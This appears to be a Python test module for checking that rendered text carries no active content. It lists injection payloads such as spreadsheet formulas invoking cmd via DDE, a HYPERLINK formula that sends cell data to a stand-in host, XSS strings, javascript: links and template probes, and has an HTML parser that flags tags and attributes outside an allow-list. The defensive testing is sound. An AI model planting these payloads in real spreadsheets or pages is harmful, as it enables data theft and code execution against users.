"""Texts that do harm where a text is taken for something else: formulas, markup, links, lines, terminals."""

from html.parser import HTMLParser

PAYLOADS = (
    '=HYPERLINK("http://x.example/?"&A1,"看")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "＝1+1",
    "＠SUM(A1:A9)",
    "<script>alert(1)</script>",
    "<img src=x onload=alert(1)>",
    "</td></tr></table><svg onload=alert(1)>",
    "[看](javascript:alert(1))",
    "![看](http://x.example/p.png)",
    "<http://x.example/>",
    "`</code><iframe srcdoc='x'></iframe>`",
    "| 甲 | 乙 |",
    "# 一级标题",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "[/bold][link=http://x.example]看[/link]",
    "{{7*7}}${7*7}<%= 7*7 %>",
)
TAGS = {
    *(
        "html",
        "head",
        "meta",
        "title",
        "style",
        "body",
        "nav",
        "ul",
        "ol",
        "li",
        "a",
        "h1",
        "h2",
        "h3",
        "h4",
        "h5",
    ),
    *("p", "blockquote", "table", "thead", "tbody", "tr", "th", "td", "code", "em", "strong", "hr", "br"),
}
ATTRIBUTES = {"lang", "charset", "name", "content", "id", "href", "style"}


class Seen(HTMLParser):
    """What a browser would see of a page: its text, and whatever in it could act."""

    def __init__(self, page):
        super().__init__()
        self.text, self.acting, self.tags = "", [], []
        self.feed(page)
        self.close()

    def handle_starttag(self, tag, attributes):
        self.tags.append(tag)
        if tag not in TAGS:
            self.acting.append(tag)
        for name, value in attributes:
            linked = name == "href" and not (value or "").startswith("#")
            if (
                name not in ATTRIBUTES
                or linked
                or (name == "style" and not (value or "").startswith("text-align:"))
            ):
                self.acting.append(f"{tag} {name}={value}")

    def handle_data(self, data):
        self.text += data
